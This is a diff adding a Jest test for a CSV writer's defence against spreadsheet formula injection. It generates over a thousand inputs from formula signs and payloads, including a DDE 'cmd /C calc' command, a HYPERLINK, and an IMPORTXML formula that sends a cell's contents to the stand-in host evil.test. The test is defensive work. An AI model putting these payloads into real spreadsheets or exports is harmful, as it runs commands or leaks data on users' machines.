@@ -1,4 +1,5 @@
 import { Readable } from 'node:stream';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from '@jest/globals';
 import { csvLine, readCsv, type CsvLimits } from '../../src/files/csv.js';
 import { FileRefused } from '../../src/files/refused.js';
@@ -149,4 +150,24 @@ it.each([
   [-12, '-12'],
 ])('writes %j so that no spreadsheet runs it', (value, cell) => {
   expect(csvLine([value, 'end'])).toBe(`${cell},"end"\r\n`);
+});
+
+it('no spreadsheet runs any of some thousand texts that are written, and each can be read back as it was (row 44)', () => {
+  const before = ['', ' ', '"', "'", '\uFEFF', '\t', '\r', '\n', '\r\n', ' "', "\u00A0'", '""'];
+  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+  const after = [
+    ...['1+1', 'cmd|" /C calc"!A0', 'HYPERLINK("http://evil.test","x")', 'SUM(A1:A9),"', 'x;y', 'x\ty', '"\r\n=2', ''],
+    ...['IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")', 'DDE("cmd";"/C calc";"x")', '2+5+cmd|x!A0', "'"],
+  ];
+  const texts = before.flatMap((start) => signs.flatMap((sign) => after.map((end) => `${start}${sign}${end}`)));
+  expect(texts.length).toBeGreaterThan(1_000);
+  const plain = ['Zoë', "O'Testperson", "'tis", 'a=b', '1-2', '3,4', 'one\r\ntwo', '‐dash'];
+  // A spreadsheet, as it opens a file: it drops marks and blanks, then runs what begins with a sign.
+  const isRun = (cell: string): boolean => /^["\s\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\n]/.test(cell);
+  for (const text of [...texts, ...plain]) {
+    const cells = parse(csvLine([text, 'end'])).flat();
+    expect([text, cells.length, isRun(cells[0] ?? '')]).toEqual([text, 2, false]);
+    const back = cells[0] !== text && cells[0]?.startsWith("'") === true ? cells[0].slice(1) : cells[0];
+    expect(back).toBe(text);
+  }
 });
